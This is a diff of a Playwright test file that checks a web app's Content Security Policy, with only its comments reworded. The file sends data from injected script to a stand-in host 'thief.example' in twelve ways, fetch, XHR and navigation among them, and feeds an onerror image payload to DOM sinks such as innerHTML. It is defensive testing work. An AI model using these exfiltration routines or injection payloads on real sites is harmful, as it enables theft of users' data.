@@ -8,10 +8,10 @@ import { join } from 'node:path';
 import type { BrowserContext, Page } from '@playwright/test';
 import { expect, nightly, test as base } from './support/test.ts';
 
-/** A host name that only this browser resolves to the address of the listener. */
+/** Only this browser resolves the name, to the address of the listener. */
 const thief = 'thief.example';
 
-/** Starts a server that receives the data that an injected script sends. */
+/** An injected script sends its data to this server. */
 async function startListener() {
   const heard = new Set<string>();
   const server = createServer((request, response) => {
@@ -39,15 +39,14 @@ type Listener = Awaited<ReturnType<typeof startListener>>;
 
 interface Fixtures {
   listener: Listener;
-  /** Opens a browser for which the listener is a host on the internet. */
+  /** The listener is a host on the internet for this browser. */
   visit: (how: 'with our policy' | 'without a policy') => Promise<Visit>;
 }
 
 interface Visit {
   context: BrowserContext;
-  /** The violated directive of each blocked request or script. */
+  /** Each blocked request or script violated a directive. */
   violations: string[];
-  /** The injected texts that ran as script. */
   ran: string[];
 }
 
@@ -109,7 +108,7 @@ function addElement(page: Page, tag: string, attributes: Record<string, string>)
   );
 }
 
-/** The ways in which an injected script could send data to another host. */
+/** An injected script could send data to another host in these ways. */
 const ways: Record<string, (page: Page, url: string) => Promise<unknown>> = {
   fetch: (page, url) => page.evaluate((to) => fetch(to, { mode: 'no-cors' }), url),
   XHR: (page, url) =>
@@ -135,7 +134,6 @@ const ways: Record<string, (page: Page, url: string) => Promise<unknown>> = {
   navigation: (page, url) => page.evaluate((to) => window.location.assign(to), url),
 };
 
-/** The directive that blocks each way. */
 const shutBy: Record<string, string> = {
   fetch: 'connect-src',
   XHR: 'connect-src',
@@ -150,7 +148,7 @@ const shutBy: Record<string, string> = {
   prefetch: 'default-src',
 };
 
-/** Tries all ways one after the other, and waits for the result of each. */
+/** Each way is over before the next one is tried. */
 async function tryAll(page: Page, url: string, isOver: (name: string) => Promise<void>) {
   for (const [name, leave] of Object.entries(ways)) {
     await leave(page, `${url}/${name}`).catch(() => undefined);
@@ -180,7 +178,7 @@ test('without our policy all twelve work', nightly, async ({ visit, listener }) 
   expect(violations).toEqual([]);
 });
 
-/** The ways that the policy does not block. docs/security.md names each of them. */
+/** The policy does not block these ways. docs/security.md names each of them. */
 const admitted: Record<string, (page: Page, listener: Listener) => Promise<unknown>> = {
   window: (page, { url }) => page.evaluate((to) => void window.open(to), `${url}/window`),
   'this computer': (page, { port }) =>
@@ -228,7 +226,7 @@ test('a script can contact its own host through WebRTC', nightly, async ({ visit
 const script = "ran('injected')";
 const markup = `<img src="/none" onerror="${script}">`;
 
-/** The ways in which a text could run as script. */
+/** A text could run as script in these ways. */
 const sinks: Record<string, (page: Page) => Promise<unknown>> = {
   innerHTML: (page) => page.evaluate((text) => (document.body.innerHTML = text), markup),
   outerHTML: (page) =>
@@ -314,7 +312,7 @@ test('the page of the API documentation works under its own content security pol
   await expect(page.getByText('Server response')).toBeVisible();
 });
 
-/** A module that logs each connection that a Node program opens. */
+/** The module logs each connection that a Node program opens. */
 const connectionLogger = `data:text/javascript,${encodeURIComponent(`
   import { Socket } from 'node:net';
   const { connect } = Socket.prototype;
@@ -324,7 +322,6 @@ const connectionLogger = `data:text/javascript,${encodeURIComponent(`
   };
 `)}`;
 
-/** Starts a Node program that logs its connections. */
 function startServer(program: readonly string[], env: Record<string, string> = {}) {
   const child = spawn(process.execPath, ['--import', connectionLogger, ...program], {
     env: { ...process.env, ...env },
